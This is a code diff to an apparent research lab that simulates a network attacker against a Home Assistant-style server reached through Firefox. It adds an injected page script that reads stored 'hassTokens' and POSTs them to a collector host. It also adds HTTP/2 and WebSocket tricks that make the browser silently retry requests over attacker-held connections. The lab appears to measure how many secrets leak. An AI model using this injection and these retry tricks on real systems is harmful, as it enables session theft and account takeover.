@@ -4,25 +4,45 @@ import { constants, createSecureServer, type Http2ServerResponse } from "node:ht
 import { connect, type Socket } from "node:net";
 import { WebSocketServer } from "ws";
 import type { Authority } from "./authority";
-import type { Attacker, House, Lab } from "./lab";
-import { housePage } from "./house-pages";
+import { COLLECTOR, type Attacker, type House, type Lab } from "./lab";
+import { housePage, SECRET } from "./house-pages";
+
+export { SECRET };
 
 /** What he tells of the house's version. */
 export const HIS_VERSION = "2021.1.4";
 
-/** A word that stands for a secret in everything a page sends. */
-export const SECRET = "opensesame";
+/** What he adds to the house's pages and scripts: it sends what opens the house to a host of his own. */
+const THEFT = `(() => {
+  const tokens = self.localStorage?.hassTokens;
+  if (tokens === undefined) return;
+  void fetch('https://${COLLECTOR}/', { method: 'POST', mode: 'no-cors', keepalive: true, body: tokens }).catch(() => undefined);
+})();`;
 
 export interface Loot {
   /** How many requests he has read in the clear. */
   readonly requests: () => number;
-  /** How many of them, and of WebSocket messages, held a secret. */
+  /** How many of them, of WebSocket messages, and of what his pages sent to a host of his own, held a secret. */
   readonly secrets: () => number;
   /** How many WebSockets he was asked to open. */
   readonly sockets: () => number;
 }
 
 const SCRIPT = { "Content-Type": "text/javascript" };
+
+const closeStream = (response: ServerResponse, code: number): void => {
+  (response as unknown as Http2ServerResponse).stream.close(code);
+};
+
+/** Ends an HTTP/2 session when what was just said has gone. */
+function leave(response: ServerResponse): void {
+  const { session } = (response as unknown as Http2ServerResponse).stream;
+  setTimeout(() => {
+    if (session === undefined || session.destroyed) return;
+    session.goaway();
+    session.destroy();
+  }, 5);
+}
 
 /** What he does with connections, from the first one on after he has come. */
 export type Strategy = (tools: Tools) => Attacker;
@@ -55,9 +75,11 @@ export type Ending = (typeof ENDINGS)[number];
 
 /**
  * Ways to have Firefox send a request again, over another connection, and tell nobody: 421, 408 where a second has
- * passed, and HTTP/2's "only over HTTP/1.1".
+ * passed, HTTP/2's "only over HTTP/1.1", and over HTTP/2 also 408 at once and "not processed". `leaves` ends the whole
+ * session after its word.
  */
-export type TurnedAway = "misdirected" | "timed-out" | "http-1.1-only";
+export type TurnedAway =
+  "misdirected" | "timed-out" | "http-1.1-only" | "http-1.1-only, leaves" | "timed-out, leaves" | "refused, leaves";
 type Answer = "answer" | TurnedAway | Ending;
 
 interface Means {
@@ -81,9 +103,11 @@ export async function attack(lab: Lab, house: House, strategy: Strategy, means: 
   let requests = 0;
   let secrets = 0;
   let sockets = 0;
+  const isWanted = (text: string): boolean => wanted.some((secret) => text.includes(secret));
   const read = (text: string): void => {
-    if (wanted.some((secret) => text.includes(secret))) secrets++;
+    if (isWanted(text)) secrets++;
   };
+  const already = lab.collected.length;
   /** What he has taken, below TLS, by the browser's port. */
   const taken = new Map<number | undefined, Socket>();
   const tools: Tools = {
@@ -146,16 +170,19 @@ export async function attack(lab: Lab, house: House, strategy: Strategy, means: 
     });
   };
   const respond = (request: IncomingMessage, response: ServerResponse, answer: Answer): void => {
+    const isHttp2 = request.httpVersionMajor === 2;
     if (answer === "misdirected") response.writeHead(421).end();
-    else if (answer === "timed-out") response.writeHead(408).end();
-    else if (answer === "http-1.1-only")
-      (response as unknown as Http2ServerResponse).stream.close(constants.NGHTTP2_HTTP_1_1_REQUIRED);
+    else if (answer === "timed-out" || answer === "timed-out, leaves") response.writeHead(408).end();
+    else if (answer === "http-1.1-only" || answer === "http-1.1-only, leaves")
+      closeStream(response, constants.NGHTTP2_HTTP_1_1_REQUIRED);
+    else if (answer === "refused, leaves") closeStream(response, constants.NGHTTP2_REFUSED_STREAM);
     else if (answer === "answer") {
       for (const [name, value] of Object.entries(headers)) response.setHeader(name, value);
       const script = scripts[(request.url ?? "").replace(/\?.*/u, "")];
-      if (script === undefined) housePage(request, response);
+      if (script === undefined) housePage(request, response, THEFT);
       else response.writeHead(200, SCRIPT).end(script);
     } else end(request.socket, answer);
+    if (isHttp2 && answer.endsWith("leaves")) leave(response);
   };
   const end = (socket: Socket, how: Ending): void => {
     const below = taken.get(socket.remotePort);
@@ -173,15 +200,25 @@ export async function attack(lab: Lab, house: House, strategy: Strategy, means: 
   const webSockets = new WebSocketServer({ noServer: true });
   his.on("upgrade", (request: IncomingMessage, socket: Socket, head: Buffer) => {
     sockets++;
-    webSockets.handleUpgrade(request, socket, head, (webSocket) => {
-      webSocket.on("message", (message) => {
-        read((message as Buffer).toString());
-      });
-      webSocket.send(JSON.stringify({ type: "auth_required", ha_version: HIS_VERSION }));
+    void Promise.resolve(tools.answers(request)).then((answer) => {
+      if (answer === "misdirected") socket.end("HTTP/1.1 421 Misdirected Request\r\nContent-Length: 0\r\n\r\n");
+      else if (answer === "timed-out") socket.end("HTTP/1.1 408 Request Timeout\r\nContent-Length: 0\r\n\r\n");
+      else if (answer !== "answer") end(socket, answer as Ending);
+      else
+        webSockets.handleUpgrade(request, socket, head, (webSocket) => {
+          webSocket.on("message", (message) => {
+            read((message as Buffer).toString());
+          });
+          webSocket.send(JSON.stringify({ type: "auth_required", ha_version: HIS_VERSION }));
+        });
     });
   });
   house.attacker = strategy(tools);
   for (const name of names) lab.others.set(name, house.attacker);
   house.dropConnections();
-  return { requests: () => requests, secrets: () => secrets, sockets: () => sockets };
+  return {
+    requests: () => requests,
+    secrets: () => secrets + lab.collected.slice(already).filter(isWanted).length,
+    sockets: () => sockets,
+  };
 }
